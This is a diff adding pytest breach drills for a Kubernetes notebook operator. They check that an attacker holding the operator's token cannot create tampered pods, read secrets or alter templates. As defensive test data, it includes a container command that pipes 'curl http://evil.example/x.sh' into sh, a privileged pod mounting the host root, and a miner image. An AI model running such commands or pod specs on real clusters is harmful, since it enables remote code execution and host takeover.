@@ -1,0 +1,172 @@
+"""Breach drills: an attacker holds the operator's ServiceAccount token. The operator may create pods and PVCs, so
+RBAC alone cannot stop it; the webhook admits from it only what an approved template renders for an existing
+instance, and the floor and the policies apply to that too. Every attack must fail and leave nothing behind."""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from jupyternetes import constants, kube, models, render
+from jupyternetes.dev import cluster as cluster_mod
+from jupyternetes.dev.cluster import OPERATOR, LocalCluster
+from tests.security.drills import NAMESPACE, absent, instance, unique
+from tests.support import processes
+
+pytestmark = pytest.mark.cluster
+
+
+@pytest.fixture(scope="module")
+def operator_account(cluster: LocalCluster) -> Iterator[kube.Kube]:
+    with cluster.kube(OPERATOR) as client:
+        yield client
+
+
+@pytest.fixture(scope="module")
+def rendering(admin: kube.Kube, hub: kube.Kube, cluster: LocalCluster, drill_template: dict[str, Any],
+              operator: processes.Component) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
+    """A real instance, created by the hub and provisioned by the real operator, and the pod its template renders
+    (with the owner reference the operator sets). Tampered copies keep the pod's name: the webhook judges a create
+    before the API server finds the name taken, so a refusal here is the webhook's."""
+    name = unique("drill-victim")
+    hub.create(instance(name))
+    selector = f"{constants.LABEL_INSTANCE}={name}"
+    cluster_mod.wait_for(f"the operator to create the pod of {name}",
+                         lambda: bool(admin.list(kube.POD, NAMESPACE, labelSelector=selector)["items"]),
+                         timeout=60, interval=0.2)
+    stored = admin.get(kube.INSTANCE, name, NAMESPACE)
+    template = admin.get(kube.TEMPLATE, drill_template["metadata"]["name"], cluster.config.template_namespace)
+    manifests = render.render(models.parse_template(template), models.parse_instance(stored))
+    pod = copy.deepcopy(manifests.pods[0].manifest)
+    pod["metadata"]["ownerReferences"] = [{"apiVersion": constants.API_VERSION, "kind": constants.INSTANCE_KIND,
+                                           "name": name, "uid": stored["metadata"]["uid"], "controller": True}]
+    yield pod, stored
+    hub.delete(kube.INSTANCE, name, NAMESPACE)
+
+
+def _unchanged(admin: kube.Kube, pod: dict[str, Any]) -> bool:
+    """The stored pod is still the operator's rendering (the tampered copy did not replace or add anything)."""
+    stored = admin.get(kube.POD, pod["metadata"]["name"], NAMESPACE)
+    containers = stored["spec"]["containers"]
+    return [c["name"] for c in containers] == ["notebook"] and \
+        not any("hostPath" in v for v in stored["spec"].get("volumes", [])) and \
+        containers[0]["image"] == "quay.io/jupyter/base-notebook:2026-11-16" and \
+        containers[0]["command"] == ["jupyterhub-singleuser"]
+
+
+def _refused(client: kube.Kube, manifest: dict[str, Any]) -> str:
+    with pytest.raises(kube.Forbidden) as refused:
+        client.create(manifest)
+    return refused.value.message
+
+
+class TestTheOperatorCreatesOnlyRenderings:
+    def test_the_rendering_itself_is_admitted(self, operator_account: kube.Kube, admin: kube.Kube,
+                                              rendering: tuple[dict[str, Any], dict[str, Any]]) -> None:
+        """The control: the operator's own rendering was admitted (and is exactly the rendering), so the refusals
+        below are about what was changed, not about the pod."""
+        pod, _ = rendering
+        stored = admin.get(kube.POD, pod["metadata"]["name"], NAMESPACE)
+        assert stored["spec"]["containers"][0]["image"] == pod["spec"]["containers"][0]["image"]
+        assert stored["spec"]["containers"][0]["command"] == pod["spec"]["containers"][0]["command"]
+        with pytest.raises(kube.Conflict):
+            operator_account.create(pod, dryRun="All")  # admitted by the webhook; only the name is taken
+
+    def test_create_an_unlabelled_pod_that_no_template_renders(self, operator_account: kube.Kube,
+                                                               admin: kube.Kube) -> None:
+        name = unique("drill-op-plain")
+        message = _refused(operator_account, {
+            "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
+            "spec": {"containers": [{"name": "miner", "image": "quay.io/jupyter/base-notebook:2026-11-16"}]}})
+        assert "(rule rendered-only)" in message
+        assert absent(admin, kube.POD, name)
+
+    def test_create_a_privileged_pod_dressed_as_a_rendering(
+        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
+    ) -> None:
+        pod = copy.deepcopy(rendering[0])
+        pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
+        pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+        pod["spec"]["containers"][0]["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
+        message = _refused(operator_account, pod)
+        assert "(rule matches-template)" in message
+        assert "privileged" in message and "hostPath" in message
+        assert _unchanged(admin, pod)
+
+    def test_create_a_pod_with_an_image_off_the_allowlist(
+        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
+    ) -> None:
+        pod = copy.deepcopy(rendering[0])
+        pod["spec"]["containers"][0]["image"] = "docker.io/evil/miner:1"
+        message = _refused(operator_account, pod)
+        assert "spec.containers[0].image: differs from what template" in message
+        assert "docker.io/evil/miner" in message
+        assert _unchanged(admin, pod)
+
+    def test_create_an_extra_container_with_a_changed_command(
+        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
+    ) -> None:
+        pod = copy.deepcopy(rendering[0])
+        pod["spec"]["containers"][0]["command"] = ["sh", "-c", "curl http://evil.example/x.sh | sh"]
+        pod["spec"]["containers"].append({**pod["spec"]["containers"][0], "name": "sidecar"})
+        message = _refused(operator_account, pod)
+        assert "spec.containers" in message and "(rule matches-template)" in message
+        assert _unchanged(admin, pod)
+
+    def test_create_a_pod_for_an_instance_that_does_not_exist(
+        self, operator_account: kube.Kube, admin: kube.Kube, rendering: tuple[dict[str, Any], dict[str, Any]]
+    ) -> None:
+        pod = copy.deepcopy(rendering[0])
+        pod["metadata"]["name"] = unique("drill-orphan")
+        for key in (constants.ANNOTATION_INSTANCE_NAME,):
+            pod["metadata"]["annotations"][key] = "no-such-instance"
+        pod["metadata"]["labels"][constants.LABEL_INSTANCE] = "no-such-instance"
+        message = _refused(operator_account, pod)
+        assert "(rule rendered-only)" in message
+        assert absent(admin, kube.POD, pod["metadata"]["name"])
+
+    def test_create_a_pvc_that_no_template_renders(self, operator_account: kube.Kube, admin: kube.Kube) -> None:
+        name = unique("drill-op-pvc")
+        message = _refused(operator_account, {
+            "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": name, "namespace": NAMESPACE},
+            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Ti"}}}})
+        assert "(rule rendered-only)" in message
+        assert absent(admin, kube.PVC, name)
+
+
+class TestTheOperatorsRbacIsNarrow:
+    def test_list_or_watch_secrets_to_harvest_them(self, operator_account: kube.Kube) -> None:
+        with pytest.raises(kube.Forbidden):
+            operator_account.list(kube.SECRET, NAMESPACE)
+        with pytest.raises(kube.Forbidden):
+            operator_account.list(kube.SECRET)
+
+    def test_delete_or_patch_a_users_pod(self, operator_account: kube.Kube, admin: kube.Kube) -> None:
+        name = unique("drill-op-victim")
+        admin.create({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
+                      "spec": {"containers": [{"name": "c", "image": "example.invalid/user:1"}]}})
+        try:
+            with pytest.raises(kube.Forbidden):
+                operator_account.delete(kube.POD, name, NAMESPACE)
+            with pytest.raises(kube.Forbidden):
+                operator_account.patch(kube.POD, name, {"metadata": {"labels": {"x": "y"}}}, NAMESPACE)
+        finally:
+            admin.delete(kube.POD, name, NAMESPACE)
+
+    @pytest.mark.parametrize(("api_version", "kind"), [("apps/v1", "Deployment"), ("batch/v1", "Job"),
+                                                        ("rbac.authorization.k8s.io/v1", "RoleBinding")])
+    def test_create_other_kinds(self, operator_account: kube.Kube, api_version: str, kind: str) -> None:
+        with pytest.raises(kube.Forbidden):
+            operator_account.create({"apiVersion": api_version, "kind": kind,
+                                     "metadata": {"name": unique("drill-op"), "namespace": NAMESPACE}})
+
+    def test_change_templates(self, operator_account: kube.Kube, cluster: LocalCluster,
+                              drill_template: dict[str, Any]) -> None:
+        with pytest.raises(kube.Forbidden):
+            operator_account.patch(kube.TEMPLATE, drill_template["metadata"]["name"], {"spec": {"pods": []}},
+                                   cluster.config.template_namespace)
+
+
